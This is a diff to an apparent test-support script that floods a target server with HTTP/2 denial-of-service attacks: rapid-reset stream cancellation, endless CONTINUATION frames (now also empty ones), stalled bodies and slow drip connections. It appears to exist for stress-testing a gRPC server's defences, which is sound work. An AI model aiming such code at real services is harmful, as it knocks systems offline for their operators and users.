@@ -4,9 +4,9 @@ independent of grpc). Run as a separate process so its CPU and GIL stay apart fr
     python -m tests.support.h2attack KIND TARGET SECONDS [PATH]
 
 KIND: no-bodies (one connection, 4 calls whose bodies never come), window-zero (initial window 0, then 4
-calls), drip (64 connections, one byte every 4 s), rapid-reset (HEADERS then RST_STREAM in a loop),
-continuation (one HEADERS, then CONTINUATION frames without end). TARGET: host:port or a unix socket path.
-Prints one JSON line of counts when done.
+calls), drip (64 connections, one byte every 4 s), rapid-reset (a call then RST_STREAM in a loop),
+continuation / continuation-empty (one HEADERS, then CONTINUATION frames of header bytes / empty frames, without
+end). TARGET: host:port or a unix socket path. Prints one JSON line of counts when done.
 """
 
 from __future__ import annotations
@@ -120,9 +120,9 @@ def drip(target: str, seconds: float, connections: int = 64, every: float = 4.0)
     return counts
 
 
-def rapid_reset(target: str, seconds: float, path: str) -> dict[str, int]:
-    """HEADERS (a complete call's, without its body) then RST_STREAM CANCEL, stream after stream, as fast as
-    the connection takes them; a new connection when the server closes one."""
+def rapid_reset(target: str, seconds: float, path: str, complete: bool = True) -> dict[str, int]:
+    """HEADERS (and, when `complete`, the call's empty message) then RST_STREAM CANCEL, stream after stream, as
+    fast as the connection takes them; a new connection when the server closes one."""
     counts = {"streams": 0, "connections": 0, "closed_by_server": 0}
     end = time.monotonic() + seconds
     while time.monotonic() < end:
@@ -142,6 +142,8 @@ def rapid_reset(target: str, seconds: float, path: str) -> dict[str, int]:
                 for _ in range(100):
                     batch += HeadersFrame(sid, data=enc.encode(request_headers(path)), flags=["END_HEADERS"]
                                           ).serialize()
+                    if complete:  # the whole call (an empty message), so the server starts its handler
+                        batch += DataFrame(sid, data=b"\x00\x00\x00\x00\x00", flags=["END_STREAM"]).serialize()
                     batch += RstStreamFrame(sid, error_code=8).serialize()  # CANCEL
                     sid += 2
                 s.sendall(batch)
@@ -152,12 +154,11 @@ def rapid_reset(target: str, seconds: float, path: str) -> dict[str, int]:
     return counts
 
 
-def continuation(target: str, seconds: float, path: str) -> dict[str, int]:
-    """HEADERS without END_HEADERS, then CONTINUATION frames of header bytes without end; a new connection when
-    the server cuts one off. Counts the bytes sent per connection before the cut."""
+def continuation(target: str, seconds: float, path: str, filler: bytes) -> dict[str, int]:
+    """HEADERS without END_HEADERS, then CONTINUATION frames of `filler` without end; a new connection when the
+    server cuts one off. Counts the bytes sent per connection before the cut."""
     counts = {"connections": 0, "frames": 0, "bytes": 0, "closed_by_server": 0, "max_bytes_on_one": 0}
     end = time.monotonic() + seconds
-    filler = Encoder().encode([("x-filler", "a" * 4000)])
     while time.monotonic() < end:
         try:
             s = opened(target)
@@ -170,11 +171,12 @@ def continuation(target: str, seconds: float, path: str) -> dict[str, int]:
         sent = 0
         try:
             s.sendall(HeadersFrame(1, data=Encoder().encode(request_headers(path))).serialize())
-            frame = ContinuationFrame(1, data=filler).serialize()
+            frames = ContinuationFrame(1, data=filler).serialize() * (4 if filler else 2000)
+            n = 4 if filler else 2000
             while time.monotonic() < end and reader.is_alive():
-                s.sendall(frame * 4)
-                sent += 4 * len(frame)
-                counts["frames"] += 4
+                s.sendall(frames)
+                sent += len(frames)
+                counts["frames"] += n
         except OSError:
             pass
         counts["bytes"] += sent
@@ -189,7 +191,9 @@ ATTACKS: dict[str, Callable[[str, float, str], dict[str, int]]] = {
     "window-zero": lambda t, s, p: held_calls(t, s, p, 0),
     "drip": lambda t, s, p: drip(t, s),
     "rapid-reset": rapid_reset,
-    "continuation": continuation,
+    # Header bytes (4 KB literals): the block grows; empty frames: it never does, each frame costs a parse.
+    "continuation": lambda t, s, p: continuation(t, s, p, Encoder().encode([("x-filler", "a" * 4000)])),
+    "continuation-empty": lambda t, s, p: continuation(t, s, p, b""),
 }
 
 
